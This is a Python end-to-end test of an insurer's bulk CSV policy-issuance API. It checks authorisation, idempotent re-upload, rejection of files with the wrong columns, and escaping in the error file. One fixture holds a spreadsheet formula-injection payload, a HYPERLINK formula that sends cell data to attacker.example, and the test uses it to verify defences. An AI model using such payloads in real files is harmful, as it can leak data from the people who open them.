"""The bulk issuance API: the insurer uploads a CSV with some bad lines, follows the import to
its end, downloads the error file; the same upload again issues nothing; a file with wrong
columns is refused before anything is issued; other insurers and regulators may not issue."""

from __future__ import annotations

import csv
import io
import time
from datetime import date
from pathlib import Path
from typing import Any

import sqlalchemy as sa

from liubu.accounts.model import OrgKind, Role
from liubu.bootstrap import ANTI_FRAUD_IMPORT, Platform
from liubu.demo import load_reference_products
from liubu.jobs import JobState, job_for
from liubu.massissue import write_synthetic_csv
from liubu.store import tables
from tests.e2e.conftest import Api
from tests.integration.helpers import make_tenant

PRODUCT = "yangben-pc/anti-fraud@1"
FORMULA_LINES = (
    '=HYPERLINK("http://attacker.example/?x="&A1),110101199003074514,13800138000,50000\n'
    "张三,+1+2,=1+1,50000\n"
).encode()


def _wait(api: Api, url: str, headers: dict[str, str]) -> dict[str, Any]:
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline:
        state = api.client.get(url, headers=headers).json()
        if state.get("status") != "running":
            return state
        time.sleep(0.1)
    raise AssertionError(f"the import did not finish: {state}")


def _issued(platform: Platform) -> int:
    with platform.engine.connect() as connection:
        return int(
            connection.execute(
                sa.select(sa.func.count()).select_from(tables.personal_policies)
            ).scalar_one()
        )


def test_bulk_issuance_over_http(api: Api, platform: Platform, tmp_path: Path) -> None:
    insurer = make_tenant(platform, OrgKind.INSURER, "Yangben", Role.UNDERWRITER, code="yangben-pc")
    other = make_tenant(platform, OrgKind.INSURER, "Other", Role.UNDERWRITER, code="other-pc")
    regulator = make_tenant(platform, OrgKind.REGULATOR, "Regulator", Role.REGULATOR_VIEWER)
    load_reference_products(platform)
    headers = api.headers(insurer.username)
    path = tmp_path / "people.csv"
    write_synthetic_csv(path, 3_000, seed=11, bad_fraction=0.02)
    # Two lines a spreadsheet would run as formulas if their rejected values came back raw.
    content = path.read_bytes() + FORMULA_LINES
    # The truth, independently: bad lines are those the generator marked (its own count).
    form = {"product": PRODUCT, "inception": "2026-12-01"}

    for outsider in (other, regulator):
        refused = api.client.post(
            "/api/personal-policies/imports",
            headers=api.headers(outsider.username),
            data=form,
            files={"file": ("people.csv", content, "text/csv")},
        )
        assert refused.status_code == 403, refused.text
    assert _issued(platform) == 0

    started = api.client.post(
        "/api/personal-policies/imports",
        headers=headers,
        data=form,
        files={"file": ("people.csv", content, "text/csv")},
    )
    assert started.status_code == 202, started.text
    state = _wait(api, started.json()["status_url"], headers)
    assert state["status"] == "finished", state
    summary = state["summary"]
    assert summary["issued"] == summary["accepted"] == _issued(platform)
    assert summary["rejected"] > 0
    assert summary["accepted"] + summary["rejected"] + summary["blank"] == 3_000 + 2
    errors = api.client.get(f"{started.json()['status_url']}/errors.csv", headers=headers)
    assert errors.status_code == 200
    rows = list(csv.DictReader(io.StringIO(errors.content.decode("utf-8-sig"))))
    assert len(rows) == summary["rejected"]
    assert all(r[next(iter(r))] for r in rows)  # every rejected line is numbered
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(c.startswith("'=") or c.startswith("'+") for c in cells), cells[-12:]
    # At rest: the upload (names, resident ids, mobiles) is gone; what stays is 0600 in 0700.
    folder = platform.import_folder(insurer.organisation_id)
    sha = started.json()["id"]
    assert not (folder / f"{sha}.csv").exists()
    assert (folder / f"{sha}.csv.errors.csv").stat().st_mode & 0o777 == 0o600
    assert folder.stat().st_mode & 0o777 == 0o700
    assert folder.parent.stat().st_mode & 0o777 == 0o700
    assert [p.name for p in folder.iterdir()] == [f"{sha}.csv.errors.csv"]
    # The error file and the progress are the owner's only.
    other_headers = api.headers(other.username)
    assert api.client.get(started.json()["status_url"], headers=other_headers).status_code == 404
    assert (
        api.client.get(f"{started.json()['status_url']}/errors.csv", headers=other_headers)
    ).status_code == 404

    again = api.client.post(
        "/api/personal-policies/imports",
        headers=headers,
        data=form,
        files={"file": ("people-again.csv", content, "text/csv")},
    )
    assert again.status_code == 202
    repeat = _wait(api, again.json()["status_url"], headers)
    assert repeat["summary"]["issued"] == 0
    assert repeat["summary"]["already_done"] is True
    assert _issued(platform) == summary["accepted"]
    assert [p.name for p in folder.iterdir()] == [f"{sha}.csv.errors.csv"]
    # A job of the same file that finds the upload already deleted (it was posted again while
    # the first import ended) reports the import as done instead of failing.
    queued = platform.queue_import(
        insurer.principal,
        folder / f"{sha}.csv",
        tenant_id=insurer.organisation_id,
        product_ref=PRODUCT,
        inception=date(2026, 12, 1),
        file_name="people.csv",
    )
    late = _wait(api, started.json()["status_url"], headers)
    assert late["status"] == "finished", late
    latest = job_for(platform.uow(insurer.principal), ANTI_FRAUD_IMPORT, sha)
    assert latest is not None
    assert latest.id == queued.id
    assert latest.state == JobState.SUCCEEDED
    assert late["summary"]["already_done"] is True
    assert late["summary"]["issued"] == 0

    wrong = "姓名,证件号,电话\n张三,110101199003074514,13800138000\n".encode()
    bad = api.client.post(
        "/api/personal-policies/imports",
        headers=headers,
        data=form,
        files={"file": ("wrong.csv", wrong, "text/csv")},
    )
    assert bad.status_code == 422, bad.text
    assert "limit" in bad.json()["detail"]
    assert _issued(platform) == summary["accepted"]
